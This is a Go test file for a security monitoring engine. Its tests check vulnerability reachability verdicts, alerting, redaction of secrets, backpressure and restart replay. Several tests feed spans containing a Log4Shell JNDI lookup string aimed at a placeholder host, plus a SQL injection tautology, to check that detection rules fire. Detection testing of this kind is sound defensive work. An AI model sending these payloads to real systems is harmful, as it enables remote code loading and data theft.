package engine

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
	"go.uber.org/goleak"

	"github.com/evidentsec/evident/internal/alert"
	"github.com/evidentsec/evident/internal/assess"
	"github.com/evidentsec/evident/internal/attribution"
	"github.com/evidentsec/evident/internal/detect"
	"github.com/evidentsec/evident/internal/findings"
	"github.com/evidentsec/evident/internal/model"
	"github.com/evidentsec/evident/internal/pipeline"
	"github.com/evidentsec/evident/internal/store"
	"github.com/evidentsec/evident/internal/store/sqlite"
	"github.com/evidentsec/evident/internal/telemetry"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

var t0 = time.Date(2026, 11, 24, 10, 0, 0, 0, time.UTC)

// recorder is an Alerter that keeps what it gets; block, when set, holds
// the worker in Fire until it is closed.
type recorder struct {
	mu     sync.Mutex
	alerts []detect.Alert
	block  chan struct{}
}

func (r *recorder) Fire(a detect.Alert) {
	if r.block != nil {
		<-r.block
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.alerts = append(r.alerts, a)
}

func (r *recorder) of(k detect.Kind) []detect.Alert {
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []detect.Alert
	for _, a := range r.alerts {
		if a.Kind == k {
			out = append(out, a)
		}
	}
	return out
}

func testConfig() Config {
	c := DefaultConfig()
	c.AssessInterval = 5 * time.Millisecond
	c.CheckpointInterval = time.Hour
	c.RefreshInterval = 0
	return c
}

func newEngine(t testing.TB, cfg Config, st Store, al Alerter, reg prometheus.Registerer) *Engine {
	t.Helper()
	acfg := assess.DefaultConfig()
	acfg.Sensitivity = []assess.SensitivityRule{{Store: "postgresql://shop/*", Labels: []string{"pii"}}}
	e, err := New(cfg, Deps{
		Store: st, Model: model.New(model.DefaultConfig(), attribution.New(attribution.Config{})),
		Assess: acfg, Alerter: al, Registerer: reg,
	})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func start(t testing.TB, e *Engine) {
	t.Helper()
	if err := e.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := e.Shutdown(context.Background()); err != nil {
			t.Error(err)
		}
	})
}

// eventually polls cond for up to 5 s.
func eventually(t testing.TB, what string, cond func() bool) {
	t.Helper()
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(2 * time.Millisecond) {
		if cond() {
			return
		}
	}
	t.Fatalf("timed out waiting for %s", what)
}

func span(svc string, kind telemetry.SpanKind, id, parent byte, a telemetry.Attrs) telemetry.Span {
	return telemetry.Span{Service: svc, Kind: kind, SpanID: [8]byte{7: id}, ParentSpanID: [8]byte{7: parent},
		TraceID: [16]byte{15: 1}, Name: "op", Start: t0, End: t0.Add(time.Millisecond), Attrs: a}
}

// shopSpans is one request: an exposed gateway calling orders, which
// reads a sensitive table.
func shopSpans() []telemetry.Span {
	return []telemetry.Span{
		span("gateway", telemetry.SpanKindServer, 1, 0, telemetry.Attrs{HTTPMethod: "GET", HTTPRoute: "/orders/{id}", URLPath: "/orders/7"}),
		span("gateway", telemetry.SpanKindClient, 2, 1, telemetry.Attrs{ServerAddress: "orders"}),
		span("orders", telemetry.SpanKindServer, 3, 2, telemetry.Attrs{HTTPMethod: "GET", HTTPRoute: "/o/{id}"}),
		span("orders", telemetry.SpanKindClient, 4, 3, telemetry.Attrs{DBSystem: "postgresql", DBNamespace: "shop", DBCollection: "customers",
			DBQueryText: "SELECT * FROM customers WHERE id = ?"}),
	}
}

// textProfile is a CPU profile of service svc in which
// golang.org/x/text/language.Parse (GO-2022-1059) runs when vulnerable
// is set, and only other code of its package otherwise.
func textProfile(svc string, vulnerable bool) *telemetry.ProfileBatch {
	fn := "golang.org/x/text/language.MustParse"
	if vulnerable {
		fn = "golang.org/x/text/language.Parse"
	}
	return &telemetry.ProfileBatch{
		Service: svc, SampleType: "cpu", Unit: "nanoseconds", Period: 10_000_000, Start: t0, Duration: 10 * time.Second,
		Locations: [][]attribution.Frame{
			{{Function: fn, File: "/home/u/go/pkg/mod/golang.org/x/text@v0.3.7/language/parse.go"}},
			{{Function: "main.handle", File: "/src/shop/main.go"}},
			{{Function: "main.idle", File: "/src/shop/main.go"}},
		},
		Samples: []telemetry.Sample{
			{Locations: []int32{0, 1}, Count: 5, Value: 50_000_000},
			{Locations: []int32{2}, Count: 95, Value: 950_000_000},
		},
	}
}

func textFinding(svc string) findings.Finding {
	return findings.Finding{
		Service:       svc,
		Package:       findings.Package{PURL: "pkg:golang/golang.org/x/text@v0.3.7", Ecosystem: "Go", Name: "golang.org/x/text", Version: "v0.3.7"},
		Vulnerability: findings.Vulnerability{ID: "GO-2022-1059", Aliases: []string{"CVE-2022-32149"}},
		Severity:      findings.Severity{Level: "high", Score: 7.5},
		Symbols:       []string{"golang.org/x/text/language.Parse"},
	}
}

func verdictOf(e *Engine, svc string) assess.Verdict {
	for _, a := range e.Assessments() {
		if a.Finding.Service == svc {
			return a.Reachability.Verdict
		}
	}
	return ""
}

// TestAttributionFollowsFindings: an engine given Deps.Attribution
// attributes the profiles that come after an upload with what the
// uploaded findings tell attribution. py-spy's short names of
// azure-storage-blob's files ("blob/…", the Pyroscope Python SDK's) are
// its code once a finding names the distribution; before, as without
// Deps.Attribution, they were a distribution "blob", and the finding was
// not_observed.
func TestAttributionFollowsFindings(t *testing.T) {
	blobs := &telemetry.ProfileBatch{
		Service: "blobs", SampleType: "cpu", Unit: "nanoseconds", Period: 10_000_000, Start: t0, Duration: 10 * time.Second,
		Locations: [][]attribution.Frame{
			{{Function: "generate_blob_sas", File: "blob/_shared_access_signature.py"}},
			{{Function: "main", File: "app.py"}},
		},
		Samples: []telemetry.Sample{{Locations: []int32{0, 1}, Count: 40, Value: 400_000_000}, {Locations: []int32{1}, Count: 10, Value: 100_000_000}},
	}
	finding := findings.Finding{
		Service:       "blobs",
		Package:       findings.Package{PURL: "pkg:pypi/azure-storage-blob@12.12.0", Ecosystem: "PyPI", Name: "azure-storage-blob", Version: "12.12.0"},
		Vulnerability: findings.Vulnerability{ID: "GHSA-64x4-9hc6-r2h6", Aliases: []string{"CVE-2022-30187"}},
	}
	for _, tc := range []struct {
		name string
		of   func([]findings.Finding) *attribution.Attributor
		want assess.Verdict
	}{
		{"from the findings", func(fs []findings.Finding) *attribution.Attributor {
			var dists []string
			for _, f := range fs {
				dists = append(dists, f.Package.Name)
			}
			return attribution.New(attribution.Config{PythonDists: attribution.PythonModulesOf(dists)})
		}, assess.Loaded},
		{"without", nil, assess.NotObserved},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e, err := New(testConfig(), Deps{Store: &memStore{}, Model: model.New(model.DefaultConfig(), attribution.New(attribution.Config{})),
				Attribution: tc.of, Assess: assess.DefaultConfig()})
			if err != nil {
				t.Fatal(err)
			}
			start(t, e)
			ctx := context.Background()
			if err := e.ProfilesConsumer().Consume(ctx, []*telemetry.ProfileBatch{blobs}); err != nil {
				t.Fatal(err)
			}
			if err := e.SetFindings(ctx, allFindings(finding)); err != nil {
				t.Fatal(err)
			}
			next := *blobs
			next.Start = blobs.Start.Add(blobs.Duration)
			if err := e.ProfilesConsumer().Consume(ctx, []*telemetry.ProfileBatch{&next}); err != nil {
				t.Fatal(err)
			}
			// Both batches applied (the model's own count: samples of
			// code no finding watches re-assess nothing, so the view may
			// show the first batch's), and the verdict.
			eventually(t, string(tc.want), func() bool {
				s := e.model.Snapshot().Service("blobs")
				return s != nil && s.Samples == 100 && verdictOf(e, "blobs") == tc.want
			})
		})
	}
}

func TestFirstExecution(t *testing.T) {
	st := &memStore{}
	rec := &recorder{}
	reg := prometheus.NewRegistry()
	e := newEngine(t, testConfig(), st, rec, reg)
	start(t, e)
	ctx := context.Background()
	if err := e.SetFindings(ctx, allFindings(textFinding("shop"), textFinding("billing"))); err != nil {
		t.Fatal(err)
	}
	if got := verdictOf(e, "shop"); got != assess.Unknown {
		t.Fatalf("verdict before profiles = %q, want unknown", got)
	}
	profiles := e.ProfilesConsumer()
	// The package runs, not the vulnerable function: loaded, no alert.
	if err := profiles.Consume(ctx, []*telemetry.ProfileBatch{textProfile("shop", false)}); err != nil {
		t.Fatal(err)
	}
	eventually(t, "loaded", func() bool { return verdictOf(e, "shop") == assess.Loaded })
	if got := rec.of(detect.KindFirstExecution); len(got) != 0 {
		t.Fatalf("alerts before the vulnerable function ran: %v", got)
	}
	before := testutil.ToFloat64(e.m.reassessed)
	if err := profiles.Consume(ctx, []*telemetry.ProfileBatch{textProfile("shop", true)}); err != nil {
		t.Fatal(err)
	}
	eventually(t, "executed", func() bool { return verdictOf(e, "shop") == assess.Executed })
	// Only the finding of shop was re-assessed, not billing's.
	if got := testutil.ToFloat64(e.m.reassessed) - before; got != 1 {
		t.Errorf("re-assessed %v findings, want 1", got)
	}
	as := rec.of(detect.KindFirstExecution)
	if len(as) != 1 {
		t.Fatalf("first-execution alerts = %+v, want 1", as)
	}
	a := as[0]
	if a.Service != "shop" || a.Evidence.Finding == nil || a.Evidence.Finding.VulnID != "GO-2022-1059" ||
		a.Evidence.Function != "golang.org/x/text/language.Parse" {
		t.Errorf("alert = %+v", a)
	}
	if lat := a.Time.Sub(a.ReceivedAt); a.ReceivedAt.IsZero() || lat < 0 || lat > time.Second {
		t.Errorf("alert latency %v (received %v, fired %v)", lat, a.ReceivedAt, a.Time)
	}
	_, _, _, verdicts := st.stats()
	var got []string
	for _, v := range verdicts {
		got = append(got, v.Service+":"+string(v.From)+"->"+string(v.To)+" vex "+v.VEXFrom+"->"+v.VEXTo)
	}
	want := []string{
		"shop:unknown->loaded vex under_investigation->under_investigation",
		"shop:loaded->executed vex under_investigation->affected",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("verdict history (-want +got):\n%s", diff)
	}
	if s := e.Summary(); s.Findings != 2 || s.ByVerdict[assess.Executed] != 1 || s.ByVerdict[assess.Unknown] != 1 {
		t.Errorf("summary = %+v", s)
	}
}

func TestSpanDetections(t *testing.T) {
	st := &memStore{}
	rec := &recorder{}
	e := newEngine(t, testConfig(), st, rec, nil)
	start(t, e)
	spans := shopSpans()
	spans[0].Attrs.URLQuery = "q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D"
	if err := e.TracesConsumer().Consume(context.Background(), spans); err != nil {
		t.Fatal(err)
	}
	eventually(t, "alerts", func() bool {
		return len(rec.of(detect.KindExploitPayload)) > 0 && len(rec.of(detect.KindSensitivePath)) > 0
	})
	if a := rec.of(detect.KindExploitPayload)[0]; a.Evidence.Rule != "jndi-lookup" || a.Service != "gateway" {
		t.Errorf("exploit alert = %+v", a)
	}
	if a := rec.of(detect.KindSensitivePath)[0]; a.Evidence.Store != "postgresql://shop/customers" ||
		!cmp.Equal(a.Evidence.Path, []string{"gateway", "orders"}) {
		t.Errorf("sensitive path alert = %+v", a)
	}
}

// TestRedaction checks that the log and the model's checkpoint never
// hold a secret the spans carried, while the exploit rules still see the
// values as received and their alerts carry redacted evidence.
func TestRedaction(t *testing.T) {
	st := &memStore{}
	rec := &recorder{}
	reg := prometheus.NewRegistry()
	e := newEngine(t, testConfig(), st, rec, reg)
	start(t, e)
	spans := shopSpans()
	spans[0].Attrs.URLQuery = "access_token=SECRET123&q=1"
	spans[0].Attrs.RequestHeaders = map[string]string{"authorization": "Bearer SECRET123"}
	spans[3].Attrs.DBQueryText = "SELECT * FROM customers WHERE password='hunter2' OR 'a'='a'"
	if err := e.TracesConsumer().Consume(context.Background(), spans); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the exploit alert", func() bool { return len(rec.of(detect.KindExploitPayload)) > 0 })
	if spans[0].Attrs.URLQuery != "access_token=SECRET123&q=1" {
		t.Error("the sender's spans were modified")
	}
	if n := testutil.ToFloat64(e.m.redacted.WithLabelValues("spans")); n != 1 {
		t.Errorf("evident_engine_redacted_batches_total{signal=spans} = %v, want 1", n)
	}
	a := rec.of(detect.KindExploitPayload)[0]
	if a.Evidence.Rule != "sqli-db-tautology" || a.Evidence.Field != "db.query.text" || a.Evidence.Length == 0 {
		t.Errorf("exploit alert = %+v", a)
	}
	var stored [][]byte
	st.mu.Lock()
	for _, b := range st.batches {
		stored = append(stored, uncompressed(t, b))
	}
	st.mu.Unlock()
	if len(stored) != 1 {
		t.Fatalf("logged %d batches, want 1", len(stored))
	}
	if err := e.Shutdown(context.Background()); err != nil { // checkpoints
		t.Fatal(err)
	}
	st.mu.Lock()
	stored = append(stored, st.checkState)
	st.mu.Unlock()
	for _, secret := range []string{"SECRET123", "hunter2"} {
		for i, b := range stored {
			if bytes.Contains(b, []byte(secret)) {
				t.Errorf("stored item %d holds %s", i, secret)
			}
		}
		if j, _ := json.Marshal(rec.of(detect.KindExploitPayload)); bytes.Contains(j, []byte(secret)) {
			t.Errorf("alert holds %s: %s", secret, j)
		}
	}
}

func TestBackpressure(t *testing.T) {
	st := &memStore{}
	rec := &recorder{block: make(chan struct{})}
	cfg := testConfig()
	cfg.QueueSize = 3
	cfg.RetryAfter = 2 * time.Second
	reg := prometheus.NewRegistry()
	e := newEngine(t, cfg, st, rec, reg)
	start(t, e)
	ctx := context.Background()
	traces := e.TracesConsumer()
	attack := shopSpans()[:1]
	attack[0].Attrs.UserAgent = "${jndi:ldap://x.example/a}"
	// The first batch holds the worker in Fire.
	if err := traces.Consume(ctx, attack); err != nil {
		t.Fatal(err)
	}
	for i := range 2 {
		if err := traces.Consume(ctx, shopSpans()); err != nil {
			t.Fatalf("batch %d: %v", i, err)
		}
	}
	appends, _, _, _ := st.stats()
	for i := range 100 {
		err := traces.Consume(ctx, shopSpans())
		var fe *pipeline.FullError
		if !errors.Is(err, pipeline.ErrFull) || !errors.As(err, &fe) || fe.RetryAfter != 2*time.Second || pipeline.IsPermanent(err) {
			t.Fatalf("overload batch %d: %v, want a FullError of 2s", i, err)
		}
	}
	if got, _, _, _ := st.stats(); got != appends {
		t.Errorf("refused batches were written: %d appends, want %d", got, appends)
	}
	if got := testutil.ToFloat64(e.m.batches.WithLabelValues("spans", "refused")); got != 100 {
		t.Errorf("refused metric = %v", got)
	}
	if n := len(e.queue); n > cfg.QueueSize {
		t.Errorf("queue holds %d batches, above its bound %d", n, cfg.QueueSize)
	}
	close(rec.block)
	eventually(t, "drained", func() bool { return len(e.slots) == 0 })
	if err := traces.Consume(ctx, shopSpans()); err != nil {
		t.Errorf("after draining: %v", err)
	}
}

// noCheckpoint makes every checkpoint fail, as when the process dies
// before it writes one: only the log survives.
type noCheckpoint struct{ Store }

func (noCheckpoint) Checkpoint(context.Context, int64, []byte) error {
	return errors.New("the process died before the checkpoint")
}

func TestRestart(t *testing.T) {
	stores := map[string]func(t *testing.T) Store{
		"memory": func(*testing.T) Store { return &memStore{} },
		"sqlite": func(t *testing.T) Store {
			st, err := sqlite.Open(context.Background(), t.TempDir(), sqlite.DefaultConfig())
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { st.Close() })
			return st
		},
	}
	// Spans and profiles come decoded, or with the request they were
	// decoded from, which the engine then logs as received.
	type sender struct {
		spans    func(t *testing.T, e *Engine, spans []telemetry.Span)
		profiles func(t *testing.T, e *Engine, ps *telemetry.ProfileBatch)
	}
	sends := map[string]sender{
		"decoded": {
			spans: func(t *testing.T, e *Engine, spans []telemetry.Span) {
				if err := e.TracesConsumer().Consume(context.Background(), spans); err != nil {
					t.Fatal(err)
				}
			},
			profiles: func(t *testing.T, e *Engine, b *telemetry.ProfileBatch) {
				if err := e.ProfilesConsumer().Consume(context.Background(), []*telemetry.ProfileBatch{b}); err != nil {
					t.Fatal(err)
				}
			},
		},
		"received": {
			spans: func(t *testing.T, e *Engine, spans []telemetry.Span) {
				consumeReceived(t, e, requestOf(t, spans))
			},
			profiles: func(t *testing.T, e *Engine, b *telemetry.ProfileBatch) {
				consumeReceivedProfiles(t, e, ingested(pprofOf(t, b, nil), b.Service))
			},
		},
	}
	for name, open := range stores {
		for how, send := range sends {
			t.Run(name+"/"+how, func(t *testing.T) { testRestart(t, open, send.spans, send.profiles) })
		}
	}
}

// testRestart is TestRestart with a store and a way of sending spans and
// profiles.
func testRestart(t *testing.T, open func(t *testing.T) Store, send func(t *testing.T, e *Engine, spans []telemetry.Span), sendProfile func(t *testing.T, e *Engine, b *telemetry.ProfileBatch)) {
	ctx := context.Background()
	st := open(t)
	cfg := testConfig()
	cfg.CheckpointInterval = 5 * time.Millisecond

	// First life: a checkpoint after the first batches, then more
	// batches, then a crash (no checkpoint).
	e1 := newEngine(t, cfg, st, nil, nil)
	if err := e1.Start(ctx); err != nil {
		t.Fatal(err)
	}
	if err := e1.SetFindings(ctx, allFindings(textFinding("shop"))); err != nil {
		t.Fatal(err)
	}
	send(t, e1, shopSpans())
	eventually(t, "checkpoint", func() bool {
		seq, _, err := st.LoadCheckpoint(ctx)
		return err == nil && seq > 0
	})
	e1.st = noCheckpoint{st}
	sendProfile(t, e1, textProfile("shop", true))
	more := shopSpans()
	for i := range more {
		more[i].SpanID[0], more[i].ParentSpanID[0] = 9, 9
		more[i].Attrs.HTTPRoute += "/v2"
	}
	more[0].ParentSpanID = [8]byte{}
	send(t, e1, more)
	if err := e1.Shutdown(ctx); err != nil {
		t.Fatal(err)
	}
	want := e1.model.Snapshot()
	if seq, _, _ := st.LoadCheckpoint(ctx); seq != 1 {
		t.Fatalf("checkpoint at %d, want 1: the crash must leave batches to replay", seq)
	}

	// Second life over the same store.
	e2 := newEngine(t, cfg, st, nil, nil)
	start(t, e2)
	if diff := cmp.Diff(want, e2.model.Snapshot()); diff != "" {
		t.Errorf("model after replay (-before crash +after):\n%s", diff)
	}
	if got := verdictOf(e2, "shop"); got != assess.Executed {
		t.Errorf("verdict after restart = %q, want executed", got)
	}
}

// TestExposedAfterRestart: orders, internal (its spans joined the
// gateway's calls), reads a sensitive table; then a request reaches it
// from outside (a root SERVER span): "now exposed" alerts, whether serve
// restarted in between or not. Before, the restored engine knew no
// service's exposure, took orders' as new, and alerted nothing.
func TestExposedAfterRestart(t *testing.T) {
	for _, restart := range []bool{false, true} {
		t.Run(fmt.Sprintf("restart %v", restart), func(t *testing.T) {
			ctx := context.Background()
			st, err := sqlite.Open(ctx, t.TempDir(), sqlite.DefaultConfig())
			if err != nil {
				t.Fatal(err)
			}
			defer st.Close()
			rec := &recorder{}
			e := newEngine(t, testConfig(), st, rec, nil)
			if err := e.Start(ctx); err != nil {
				t.Fatal(err)
			}
			if err := e.SetFindings(ctx, allFindings(textFinding("orders"))); err != nil {
				t.Fatal(err)
			}
			if err := e.TracesConsumer().Consume(ctx, shopSpans()); err != nil {
				t.Fatal(err)
			}
			eventually(t, "orders internal", func() bool { return e.View().Exposure["orders"].Level == assess.Internal })
			if restart {
				if err := e.Shutdown(ctx); err != nil {
					t.Fatal(err)
				}
				rec = &recorder{}
				e = newEngine(t, testConfig(), st, rec, nil)
				if err := e.Start(ctx); err != nil {
					t.Fatal(err)
				}
			}
			defer e.Shutdown(ctx)
			exposeOrders(t, e, rec)
		})
	}
}

// TestExposedWithoutFindings: with no findings, no span asks for a
// service's exposure; when orders, internal and reaching a sensitive
// table, gets a request from outside, the refresh finds it exposed and
// alerts. Before, nothing compared its exposure again: no alert, ever.
func TestExposedWithoutFindings(t *testing.T) {
	ctx := context.Background()
	rec := &recorder{}
	cfg := testConfig()
	cfg.RefreshInterval = 20 * time.Millisecond
	e := newEngine(t, cfg, &memStore{}, rec, nil)
	start(t, e)
	if err := e.TracesConsumer().Consume(ctx, shopSpans()); err != nil {
		t.Fatal(err)
	}
	eventually(t, "orders internal", func() bool { return e.View().Exposure["orders"].Level == assess.Internal })
	exposeOrders(t, e, rec)
}

// exposeOrders sends e a request from outside the traced system to
// orders of shopSpans, internal until then and reaching a pii table, and
// waits for the alert that it is now exposed.
func exposeOrders(t *testing.T, e *Engine, rec *recorder) {
	t.Helper()
	root := span("orders", telemetry.SpanKindServer, 20, 0, telemetry.Attrs{HTTPMethod: "GET", HTTPRoute: "/o/{id}"})
	root.TraceID[0] = 2
	if err := e.TracesConsumer().Consume(context.Background(), []telemetry.Span{root}); err != nil {
		t.Fatal(err)
	}
	want := "service orders is now exposed (entry point: 1 of 2 SERVER/CONSUMER spans start a trace) and reaches pii store postgresql://shop/customers via orders"
	eventually(t, "the alert of orders now exposed", func() bool {
		return slices.ContainsFunc(rec.of(detect.KindSensitivePath), func(a detect.Alert) bool { return a.Summary == want })
	})
}

// TestNewHostAfterRestart: orders calls api.stripe.com and, once in its
// first minute (the warm-up, learnt without alerting), Rare.example.com.
// An hour later it calls them again, ten minutes apart, with or without
// a restart of serve in between: the host it called before is not new,
// and one it never called is. Before, the restored engine knew no host:
// the second call of the hour, past the warm-up counted from the first,
// was "for the first time".
func TestNewHostAfterRestart(t *testing.T) {
	tests := []struct {
		name    string
		restart bool
		later   string // the host of the second call of the hour
		want    []string
	}{
		{"known host", false, "rare.example.com", nil},
		{"known host after a restart", true, "rare.example.com", nil},
		{"new host", false, "new.example.com", []string{"orders called new.example.com for the first time"}},
		{"new host after a restart", true, "new.example.com", []string{"orders called new.example.com for the first time"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ctx := context.Background()
			st, err := sqlite.Open(ctx, t.TempDir(), sqlite.DefaultConfig())
			if err != nil {
				t.Fatal(err)
			}
			defer st.Close()
			rec := &recorder{}
			e := newEngine(t, testConfig(), st, rec, nil)
			if err := e.Start(ctx); err != nil {
				t.Fatal(err)
			}
			call := func(host string, at time.Time, id byte) {
				t.Helper()
				sp := span("orders", telemetry.SpanKindClient, id, 0, telemetry.Attrs{ServerAddress: host})
				sp.Start, sp.End = at, at.Add(time.Millisecond)
				if err := e.TracesConsumer().Consume(ctx, []telemetry.Span{sp}); err != nil {
					t.Fatal(err)
				}
			}
			call("api.stripe.com", t0, 1)
			call("Rare.example.com", t0.Add(time.Minute), 2)
			if tt.restart {
				if err := e.Shutdown(ctx); err != nil {
					t.Fatal(err)
				}
				e = newEngine(t, testConfig(), st, rec, nil)
				if err := e.Start(ctx); err != nil {
					t.Fatal(err)
				}
			}
			call("api.stripe.com", t0.Add(time.Hour), 3)
			call(tt.later, t0.Add(time.Hour+10*time.Minute), 4)
			if err := e.Shutdown(ctx); err != nil { // applies what is queued
				t.Fatal(err)
			}
			var got []string
			for _, a := range rec.of(detect.KindNewHost) {
				got = append(got, a.Summary)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("new-host alerts (-want +got):\n%s", diff)
			}
		})
	}
}

func TestLifecycle(t *testing.T) {
	ctx := context.Background()
	t.Run("shutdown without start", func(t *testing.T) {
		e := newEngine(t, testConfig(), &memStore{}, nil, nil)
		for range 2 {
			if err := e.Shutdown(ctx); err != nil {
				t.Fatal(err)
			}
		}
		if err := e.Start(ctx); err != nil {
			t.Fatal(err)
		}
		if err := e.TracesConsumer().Consume(ctx, shopSpans()); !errors.Is(err, ErrNotRunning) {
			t.Errorf("Consume after Shutdown = %v, want ErrNotRunning", err)
		}
	})
	t.Run("start and shutdown twice", func(t *testing.T) {
		st := &memStore{}
		e := newEngine(t, testConfig(), st, nil, prometheus.NewRegistry())
		if err := e.TracesConsumer().Consume(ctx, shopSpans()); !errors.Is(err, ErrNotRunning) || pipeline.IsPermanent(err) {
			t.Errorf("Consume before Start = %v, want ErrNotRunning", err)
		}
		for range 2 {
			if err := e.Start(ctx); err != nil {
				t.Fatal(err)
			}
		}
		if err := e.TracesConsumer().Consume(ctx, shopSpans()); err != nil {
			t.Fatal(err)
		}
		for range 2 {
			if err := e.Shutdown(ctx); err != nil {
				t.Fatal(err)
			}
		}
		// Shutdown drained the queue and checkpointed it.
		if _, logged, seq, _ := st.stats(); logged != 0 || seq != 1 {
			t.Errorf("after shutdown: %d batches logged, checkpoint %d; want 0 and 1", logged, seq)
		}
	})
	t.Run("shutdown deadline", func(t *testing.T) {
		rec := &recorder{block: make(chan struct{})}
		e := newEngine(t, testConfig(), &memStore{}, rec, nil)
		if err := e.Start(ctx); err != nil {
			t.Fatal(err)
		}
		attack := shopSpans()[:1]
		attack[0].Attrs.UserAgent = "${jndi:ldap://x.example/a}"
		if err := e.TracesConsumer().Consume(ctx, attack); err != nil {
			t.Fatal(err)
		}
		dctx, cancel := context.WithTimeout(ctx, 20*time.Millisecond)
		defer cancel()
		if err := e.Shutdown(dctx); !errors.Is(err, context.DeadlineExceeded) {
			t.Errorf("Shutdown of a stuck worker = %v, want the deadline", err)
		}
		close(rec.block)
		<-e.done
	})
	t.Run("invalid config", func(t *testing.T) {
		c := DefaultConfig()
		c.QueueSize = 0
		c.AssessInterval = 0
		_, err := New(c, Deps{Store: &memStore{}, Model: model.New(model.DefaultConfig(), attribution.New(attribution.Config{}))})
		if !errors.Is(err, ErrInvalidConfig) || !strings.Contains(err.Error(), "queue_size") || !strings.Contains(err.Error(), "assess_interval") {
			t.Errorf("New = %v", err)
		}
	})
}

// The store contract is met by the SQLite store too.
var _ Store = (*sqlite.Store)(nil)
var _ Store = store.Store(nil)

// TestAlertLatencyRecorded runs the engine into the real alert router:
// the first-execution alert of a profile batch is measured from the
// batch's receipt.
func TestAlertLatencyRecorded(t *testing.T) {
	reg := prometheus.NewRegistry()
	r, err := alert.NewRouter(alert.DefaultConfig(), nil, alert.Deps{Registerer: reg})
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	if err := r.Start(ctx); err != nil {
		t.Fatal(err)
	}
	defer r.Shutdown(ctx)
	e := newEngine(t, testConfig(), &memStore{}, r, nil)
	start(t, e)
	if err := e.SetFindings(ctx, allFindings(textFinding("shop"))); err != nil {
		t.Fatal(err)
	}
	if err := e.ProfilesConsumer().Consume(ctx, []*telemetry.ProfileBatch{textProfile("shop", true)}); err != nil {
		t.Fatal(err)
	}
	eventually(t, "latency sample", func() bool {
		// Every kind's series is there from the start; the first
		// execution's has the sample.
		mfs, err := reg.Gather()
		if err != nil {
			return false
		}
		for _, mf := range mfs {
			for _, m := range mf.GetMetric() {
				for _, l := range m.GetLabel() {
					if mf.GetName() == "evident_alert_latency_seconds" && l.GetName() == "kind" && l.GetValue() == string(detect.KindFirstExecution) {
						return m.GetHistogram().GetSampleCount() == 1
					}
				}
			}
		}
		return false
	})
	eventually(t, "executed", func() bool { return verdictOf(e, "shop") == assess.Executed })
}

// TestGroupCommit checks that concurrent batches wait for their commits
// together, not one after the other under the engine's lock, and that
// the worker still applies them in the order of their sequence numbers
// when their commits end in the reverse order.
func TestGroupCommit(t *testing.T) {
	const n = 5
	st := &memStore{held: make(chan chan struct{}, n)}
	rec := &recorder{}
	e := newEngine(t, testConfig(), st, rec, nil)
	start(t, e)
	traces := e.TracesConsumer()
	errs := make(chan error, n)
	var commits []chan struct{}
	for i := range n {
		attack := shopSpans()[:1]
		attack[0].Service = fmt.Sprintf("svc-%d", i)
		attack[0].Attrs.UserAgent = "${jndi:ldap://x.example/a}"
		go func() { errs <- traces.Consume(context.Background(), attack) }()
		// Batch i is handed over, and waits for its commit, before batch
		// i+1 is sent: with the lock held across the wait, this would
		// never come for i > 0.
		select {
		case c := <-st.held:
			commits = append(commits, c)
		case err := <-errs:
			t.Fatalf("batch %d returned before its commit: %v", i, err)
		case <-time.After(10 * time.Second):
			t.Fatalf("batch %d was not handed over while batch %d waits for its commit", i, i-1)
		}
	}
	if got := len(rec.of(detect.KindExploitPayload)); got != 0 {
		t.Fatalf("%d alerts before any commit ended", got)
	}
	for i := n - 1; i >= 0; i-- {
		close(commits[i])
		if err := <-errs; err != nil {
			t.Fatal(err)
		}
	}
	eventually(t, "every batch applied", func() bool { return len(rec.of(detect.KindExploitPayload)) == n })
	var got, want []string
	for i, a := range rec.of(detect.KindExploitPayload) {
		got, want = append(got, a.Service), append(want, fmt.Sprintf("svc-%d", i))
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("order of application (-want +got):\n%s", diff)
	}
}

// failingAppends fails the appends whose payload the test marks, as a
// commit that failed: the batch is not logged.
type failingAppends struct {
	*memStore
	fail atomic.Bool
}

func (s *failingAppends) SubmitBatch(ctx context.Context, kind store.BatchKind, payload []byte) func() (int64, error) {
	if s.fail.Load() {
		return func() (int64, error) { return 0, errors.New("disk full") }
	}
	return s.memStore.SubmitBatch(ctx, kind, payload)
}

// TestFailedAppend checks that a batch the store could not log is
// refused and does not hold back the batches after it.
func TestFailedAppend(t *testing.T) {
	st := &failingAppends{memStore: &memStore{}}
	rec := &recorder{}
	e := newEngine(t, testConfig(), st, rec, nil)
	start(t, e)
	traces := e.TracesConsumer()
	ctx := context.Background()
	attack := func(svc string) []telemetry.Span {
		s := shopSpans()[:1]
		s[0].Service = svc
		s[0].Attrs.UserAgent = "${jndi:ldap://x.example/a}"
		return s
	}
	st.fail.Store(true)
	if err := traces.Consume(ctx, attack("lost")); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Fatalf("Consume with a failing store = %v, want the store's error", err)
	}
	st.fail.Store(false)
	if err := traces.Consume(ctx, attack("kept")); err != nil {
		t.Fatal(err)
	}
	eventually(t, "the next batch applied", func() bool { return len(rec.of(detect.KindExploitPayload)) == 1 })
	if a := rec.of(detect.KindExploitPayload)[0]; a.Service != "kept" {
		t.Errorf("alert of %q, want only the logged batch's (kept)", a.Service)
	}
	eventually(t, "every slot free", func() bool { return len(e.slots) == 0 })
}

// TestReplayPreviousFormat: a log written by the previous version (spans
// in encoding/gob under the kind "spans"), followed by batches this
// version logs as compressed OTLP trace requests, replays into the model that
// applying the same batches live makes.
func TestReplayPreviousFormat(t *testing.T) {
